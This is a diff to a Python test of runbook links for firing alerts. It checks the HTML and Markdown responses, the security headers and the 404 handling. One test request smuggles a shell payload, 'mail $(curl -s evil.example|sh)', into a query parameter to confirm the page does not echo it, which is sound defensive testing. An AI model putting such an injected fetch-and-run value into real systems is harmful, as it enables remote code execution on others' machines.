@@ -35,12 +35,18 @@ def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url
         url = alert["annotations"]["runbook_url"]
         # The link carries the alert's labels: it opens this alert's jobs, not another actor's.
         assert url == f"{base}/runbooks/reliabledeadlettergrowth?queue=mail&actor=send"
-        page = httpx.get(url, timeout=30)
-        other = httpx.get(url, params={"actor": "other"}, timeout=30)
-        crafted = httpx.get(url, params={"queue": "mail $(curl -s evil.example|sh)"}, timeout=30)
-        promql = httpx.get(f"{base}/runbooks/ReliableHeartbeatFailures", timeout=30)
+        opened = httpx.get(url, timeout=30)  # what a notification's link opens: an HTML page
+        markdown = url.replace("?", ".md?")  # the same runbook as Markdown text
+        page = httpx.get(markdown, timeout=30)
+        other = httpx.get(markdown, params={"actor": "other"}, timeout=30)
+        crafted = httpx.get(markdown, params={"queue": "mail $(curl -s evil.example|sh)"}, timeout=30)
+        promql = httpx.get(f"{base}/runbooks/ReliableHeartbeatFailures.md", timeout=30)
         index = httpx.get(f"{base}/runbooks/", timeout=30)
         missing = httpx.get(f"{base}/runbooks/nosuchalert", timeout=30)
+    assert opened.status_code == 200 and opened.headers["content-type"] == "text/html; charset=utf-8"
+    assert "<h2>ReliableDeadLetterGrowth (warning, route notify, owner team-mail)</h2>" in opened.text
+    assert "<li>Job <code>dead-1</code>: DEAD" in opened.text  # no console configured: no job page to link
+    assert "default-src 'none'" in opened.headers["content-security-policy"]
     assert page.status_code == 200 and page.headers["content-type"] == "text/plain; charset=utf-8"
     text = page.text
     assert text.startswith("# ReliableDeadLetterGrowth (warning, route notify, owner team-mail)")
@@ -56,6 +62,7 @@ def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url
     assert crafted.status_code == 200 and "evil.example" not in crafted.text
     assert promql.status_code == 200 and "# ReliableHeartbeatFailures (critical, route page, owner platform)" \
         in promql.text and "No job details" in promql.text
+    assert "ReliableHeartbeatFailures is not firing here now" in promql.text  # no Alertmanager configured
     assert index.status_code == 200
     assert f"{base}/runbooks/reliablejobstuck  ReliableJobStuck (store)" in index.text
     assert missing.status_code == 404 and "/runbooks/" in missing.text
